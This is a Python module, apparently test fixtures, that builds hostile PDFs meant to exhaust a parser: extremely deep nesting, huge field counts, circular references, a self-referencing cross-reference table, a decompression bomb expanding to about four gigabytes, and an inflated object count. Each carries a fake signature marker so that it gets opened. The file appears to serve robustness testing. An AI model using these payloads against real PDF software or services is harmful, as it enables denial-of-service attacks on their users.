"""PDFs that are made to exhaust whoever opens them. Each bears the mark that a signature has, so that it is opened."""

import zlib
from collections.abc import Callable

MARK = b"%/ByteRange\n"


def _with_root(objects: list[bytes], extra: bytes = b"") -> bytes:
    """A PDF of these objects, the first of which is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n" + MARK + extra), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def deep() -> bytes:
    """Arrays within arrays, far deeper than any stack."""
    return _with_root([b"<</Type/Catalog/AcroForm<</Fields" + b"[" * 200_000 + b"]" * 200_000 + b">>>>"])


def many() -> bytes:
    """A form with more fields than anybody fills in."""
    fields = b" ".join(b"%d 0 R" % number for number in range(2, 120_002))
    return _with_root([b"<</Type/Catalog/AcroForm<</Fields[" + fields + b"]>>>>"] + [b"<</FT/Sig>>"] * 120_000)


def circle() -> bytes:
    """Fields that are each other's children."""
    kids = b"<</T(a)/Kids[%d 0 R]>>"
    return _with_root([b"<</Type/Catalog/AcroForm<</Fields[2 0 R]>>>>", kids % 3, kids % 2])


def tables() -> bytes:
    """A cross-reference table that claims to come before itself."""
    plain = _with_root([b"<</Type/Catalog>>"])
    start = plain.rindex(b"xref\n0")
    return plain.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


def bomb() -> bytes:
    """An object stream of a few kilobytes that unfolds to four gigabytes."""
    one = zlib.compress(b"\0" * (4 << 20), 9)
    packed = zlib.compress(one * 1000, 9)
    head = b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(packed)
    stream = head + packed + b"\nendstream"
    rows = b"\1\0\0\0\0\0\0" + b"\2\0\0\0\2\0\0" + b"\1\0\0\0\0\0\0"
    out = bytearray(b"%PDF-1.7\n" + MARK)
    place = len(out)
    out += b"2 0 obj\n" + stream + b"\nendobj\n"
    start = len(out)
    rows = (
        b"\0\0\0\0\0\xff\xff"
        b"\2\0\0\0\2\0\0"
        b"\1" + place.to_bytes(4, "big") + b"\0\0" + b"\1" + start.to_bytes(4, "big") + b"\0\0"
    )
    table = b"<</Type/XRef/Size 4/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    out += b"3 0 obj\n" + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def claims() -> bytes:
    """A table that claims two thousand million objects."""
    return (
        b"%PDF-1.7\n" + MARK + b"xref\n0 2000000000\ntrailer\n<</Size 2000000000/Root 1 0 R>>\nstartxref\n21\n%%EOF\n"
    )


HOSTILE: dict[str, Callable[[], bytes]] = {
    "deep": deep, "many objects": many, "circle of fields": circle, "circle of tables": tables,
    "bomb of an object stream": bomb, "claims of size": claims,
}  # fmt: skip
